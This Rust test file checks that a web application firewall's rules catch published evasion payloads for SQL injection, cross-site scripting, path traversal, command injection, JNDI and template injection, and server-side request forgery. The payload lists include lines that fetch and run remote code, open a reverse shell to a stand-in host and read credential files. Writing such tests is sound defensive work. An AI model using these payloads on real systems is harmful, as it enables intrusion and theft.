//! Published evasions against our own rules: each case is an attack in a form that a filter may read in another way than the
//! program behind it does. They come from the cheat sheets of OWASP, from PayloadsAllTheThings, from reports on filters
//! (JSON operators in SQL, overlong UTF-8, percent signs that IIS drops) and from studies of multipart readers.

use super::bodies::FORM;
use super::*;

/// What each family hides, in the query argument `q`, written as it is sent.
const QUERIES: &[(&str, &[&str])] = &[
    (
        "percent-encoding, once to thrice and mixed",
        &[
            "%27%20or%20%271%27%3d%271",
            "%2527%2520or%2520%25271%2527%253d%25271",
            "%252527%252520or%2525201=1",
            "%27%u0020or%u0020%27a%27=%27a",
            "%u0027%u0020or%u00201=1--",
            "%ff%27%20or%201=1--%20",
            "%3Cs%63ript%3Ealert(1)",
            "%26%2360;script%26%2362;alert(1)",
            "%26%23x3c;script%26%23x3e;alert(1)",
            "%26%230000060;script%26%23x0000003e;alert(1)",
            "%5Cu003cscript%5Cu003ealert(1)",
            "%253Csvg%2520onload%253Dalert(1)%253E",
            "%25253Cscript%25253E",
        ],
    ),
    (
        "overlong and full-width UTF-8",
        &[
            "%c0%a7%20or%201=1--",
            "%e0%80%a7%20or%201=1--",
            "%f0%80%80%bcscript%f0%80%80%bealert(1)",
            "%c0%bcscript%c0%bealert(1)",
            "%ef%bc%87%20or%201=1--",
            "%ef%bc%9cscript%ef%bc%9ealert(1)",
            "..%c0%af..%c0%afetc%c0%afpasswd",
            "..%e0%80%af..%e0%80%afetc/passwd",
            "..%c1%9c..%c1%9cboot.ini",
            "..%u2215..%u2215etc/passwd",
            "%e5%98%8a%e5%98%8dSet-Cookie:%20a=b",
        ],
    ),
    (
        "comments and white space in SQL",
        &[
            "1/**/union/**/select/**/1,2",
            "1/*!50000union*//*!50000select*/1,2",
            "1%20/*!12345union*/%20/*!12345select*/%201",
            "1%0aunion%0aselect%0a1",
            "1%0bunion%0bselect%0b1",
            "1%0cunion%0cselect%0c1",
            "1%a0union%a0select%a01",
            "1%09union%09all%09select%091",
            "1--%0aunion--%0aselect%201",
            "1%23%0aunion%23%0aselect%201",
            "1%23foo%0aunion%23bar%0aselect%201,2",
            "1%20union(select(1),2)",
            "(1)union(select(1),mid(hash,1,32)from(users))",
            "1%20uNiOn%20aLl%20sElEcT%201,2",
            "1%20union%20/*%2a*/%20select%201",
            "1e0union%20select%201,2",
            "0x1union%20select%201",
            "1.union%20select%201",
            "1;%73elect%20pg_sleep%285)",
        ],
    ),
    (
        "SQL without the usual words",
        &[
            "1%27||1=1%23",
            "1%27%26%261=1%23",
            "%27||(1)like(1)||%27",
            "1%27%20or%201%20rlike%201%23",
            "1%20or%20%271%27<>%272%27",
            "%27=0%2b%27",
            "%27or%27%27=%27",
            "%27%20or%20true--",
            "%27-%27",
            "%27%20or%20%27%7b%22b%22:2%7d%27::jsonb%20%3c@%20%27%7b%22a%22:1,%22b%22:2%7d%27::jsonb--",
            "1%20or%20json_extract(%27%7b%22a%22:1%7d%27,%27$.a%27)=1",
            "%27%20or%20json_length(%27%7b%7d%27)%3c=8896%20union%20distinctrow%20select%20@@version%23",
            "1%20and%20ascii(substring((select%20user()),1,1))=114",
            "1%20procedure%20analyse(extractvalue(rand(),concat(0x3a,version())),1)",
            "1;exec%20xp_cmdshell(%27dir%27)",
            "1;declare%20@s%20varchar(99);set%20@s=0x73656c656374;exec(@s)",
            "1%27%20waitfor%20delay%20%270:0:5%27--",
            "1%20and%20(select*from(select(sleep%285)))a)",
            "admin%27--",
            "admin%27/*",
            "se%lect%20name%20fr%om%20users",
        ],
    ),
    (
        "scripts in pages",
        &[
            "%3Cscript%20%3Ealert(1)%3C/script%20%3E",
            "%3CScRiPt%3Ealert(1)",
            "%3Cscript/x%3Ealert(1)",
            "%3Cscript%0d%0a%3Ealert(1)",
            "%3Cscript%00%3Ealert(1)",
            "%3Cscr%00ipt%3Ealert(1)",
            "%3C%3Cscript%3Ealert(1)//%3C%3C/script%3E",
            "%3Cscrip%t%3Ealert(1)%3C/scrip%t%3E",
            "%3Cimg%20src=x%20onerror=alert(1)%3E",
            "%3Cimg/src=x/onerror=alert(1)%3E",
            "%3Cimg%20src=x%20onerror%0b=alert(1)%3E",
            "%3Cimg%20%22%22%22%3E%3Cscript%3Ealert(1)%3C/script%3E%22%3E",
            "%3Csvg%0conload=alert(1)%3E",
            "%3Csvg%3E%3Canimate%20onbegin=alert(1)%20attributeName=x%3E",
            "%3Csvg/onload=%26%2397;lert(1)%3E",
            "%3Cbody%20onpageshow=alert(1)%3E",
            "%3Cdetails%20open%20ontoggle=alert(1)%3E",
            "%3Cvideo%3E%3Csource%20onerror=alert(1)%3E",
            "%3Cinput%20autofocus%20onfocus=alert(1)%3E",
            "%3Ciframe%20srcdoc=%22%26lt;script%26gt;alert(1)%22%3E",
            "%3Ca%20href=%22jav%26%23x09;ascript:alert(1)%22%3Ex%3C/a%3E",
            "%3Ca%20href=%22javascript%26colon;alert(1)%22%3Ex%3C/a%3E",
            "%3Cmath%3E%3Cmi%20xlink:href=%22data:x,%3Cscript%3Ealert(1)%22%3E",
            "%3Cobject%20data=%22data:text/html;base64,PHNjcmlwdD4=%22%3E",
            "%22%20onmouseover=%22alert(1)",
            "%27-alert(1)-%27",
            "%27;alert(String.fromCharCode(88))//",
            "%5C%22;alert(1);//",
            "%3Cscript%3E[]%5B%22constructor%22%5D%5B%22constructor%22%5D(%22alert(1)%22)()%3C/script%3E",
            "%3Cscript%3E%5Cu0061lert(1)%3C/script%3E",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "%3Cx%20onclick=alert%601%60%3E",
            "%3Cstyle%3E@im%5Cport%27//x/y.css%27%3C/style%3E",
            "%3Cembed%20src=javascript:alert(1)%3E",
            "%3Cform%3E%3Cbutton%20formaction=javascript:alert(1)%3Ex",
            "%3Cxss%20style=%22x:expression(alert(1))%22%3E",
        ],
    ),
    (
        "paths",
        &[
            "../../../etc/passwd",
            "..//..//..//etc//passwd",
            "....//....//etc/passwd",
            "..././..././etc/passwd",
            "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "%2e%2e%5c%2e%2e%5cboot.ini",
            "..%00/..%00/etc/passwd",
            "../../etc/passwd%00.png",
            "/etc/./passwd",
            "/./././etc/passwd",
            "/etc//passwd",
            "/proc/self/environ",
            "file:///etc/passwd",
            "php://filter/read=string.rot13/resource=index.php",
            "expect://id",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOw==",
        ],
    ),
    (
        "commands",
        &[
            ";cat%20/etc/passwd",
            "|cat%20/etc/passwd",
            "%0acat%20/etc/passwd",
            "%26%26id",
            "||id||",
            ";c%5cat%20/etc/passwd",
            ";c%27a%27t%20/etc/passwd",
            ";c%22a%22t%20/etc/passwd",
            ";/bin/c?t%20/etc/p?sswd",
            ";/???/??t%20/???/p??s??",
            ";cat$IFS/etc/passwd",
            ";cat$%7bIFS%7d/etc/passwd",
            ";%7bcat,/etc/passwd%7d",
            ";w$@hoami",
            ";who$(echo%20am)i",
            ";$(printf%20%27\\x69\\x64%27)",
            ";echo%20Y2F0IC9ldGMvcGFzc3dk|base64%20-d|sh",
            "`id`",
            "$(id)",
            "();%7b:;%7d;cat%20/etc/passwd",
            ";sh</dev/tcp/10.0.0.1/80",
            ";wget%20http://10.0.0.1/a%20-O-|sh",
            "|powershell%20-enc%20SQBFAFgA",
            "%26%20dir%20c:%5c",
            ";p^i^n^g%20-c%201%2010.0.0.1",
        ],
    ),
    (
        "look-ups and templates",
        &[
            "$%7bjndi:ldap://x/a%7d",
            "$%7b$%7blower:j%7dndi:ldap://x/a%7d",
            "$%7b$%7b::-j%7d$%7b::-n%7d$%7b::-d%7d$%7b::-i%7d:rmi://x/a%7d",
            "$%7b$%7benv:BARFOO:-j%7dndi$%7benv:BARFOO:-:%7dldap://x%7d",
            "$%7bjndi:$%7blower:l%7d$%7blower:d%7dap://x%7d",
            "%2524%257bjndi:ldap://x/a%257d",
            "%7b%7b7*7%7d%7d",
            "%7b%7bconfig.__class__.__init__.__globals__%7d%7d",
            "$%7b7*7%7d",
            "%23%7b7*7%7d",
            "<%25=7*7%25>",
            "%7b%25%20for%20x%20in%20().__class__.__base__.__subclasses__()%20%25%7d",
            "$%7bT(java.lang.Runtime).getRuntime().exec(%27id%27)%7d",
        ],
    ),
    (
        "other servers as targets",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/latest/meta-data/",
            "http://0xa9fea9fe/latest/meta-data/",
            "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
            "http://0251.0376.0251.0376/latest/meta-data/",
            "http://[::ffff:169.254.169.254]/latest/meta-data/",
            "http://169.254.169.254.nip.io/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "dict://127.0.0.1:11211/stat",
        ],
    ),
];

/// Attacks that are in the path, the names of arguments, or in more than one argument.
const TARGETS: &[&str] = &[
    "/static/..%2f..%2f..%2fetc%2fpasswd",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%5c..%5cweb.config",
    "/static/..;/manager/html",
    "/a/..;x=y/admin",
    "/.%67it/config",
    "/%2egit/config",
    "/index.php%00.png",
    "/x%0d%0aSet-Cookie:%20a=b",
    "/?%3Cscript%3Ealert(1)%3C/script%3E",
    "/?%27%20or%201%3d1--",
    "/?a[%24ne]=1",
    "/?__proto__[x]=1",
    "/?constructor[prototype][x]=1",
    // The values of one name, joined by the program behind.
    "/?q=1%20union/*&q=*/select%201,2",
    "/?q=%27%20or%20/*&q=*/1=1--",
    "/?q=%3Csvg/x=%22&q=%22onload=alert(1)%3E",
    "/?a=1&q=good&q=%3Cscript%3Ealert(1)",
    "/?q=good;q=%3Cscript%3Ealert(1)",
    "/?a=1%26q=%3Cscript%3Ealert(1)",
    // JSON within an argument.
    "/?q=%7b%22a%22:%22%5Cu0027%20or%20%5Cu00271%5Cu0027=%5Cu00271%22%7d",
    "/?q=%5b%22%5Cu003cscript%5Cu003ealert(1)%22%5d",
    "/?q=%7b%22a%22:%22%7b%5C%22b%5C%22:%5C%22%5C%5Cu0027%20or%201=1--%5C%22%7d%22%7d",
];

#[test]
fn published_evasions_of_queries_are_refused() {
    let ruleset = rules(Profile::Balanced);
    let mut passed = Vec::new();
    let queries = QUERIES.iter().flat_map(|(family, list)| list.iter().map(move |it| (*family, *it)));
    for (family, query) in queries {
        if !ids(&ruleset, &format!("/?q={query}"), None).contains(&1_000_900) {
            passed.push(format!("{family}: {query}"));
        }
        // In a form it is the same attack.
        let form = format!("a=1&q={query}");
        if !ids(&ruleset, "/", Some((FORM, &form))).contains(&1_000_900) {
            passed.push(format!("{family}, in a form: {query}"));
        }
    }
    for target in TARGETS {
        if !ids(&ruleset, target, None).contains(&1_000_900) {
            passed.push((*target).to_owned());
        }
    }
    assert!(passed.is_empty(), "{} pass:\n{}", passed.len(), passed.join("\n"));
}
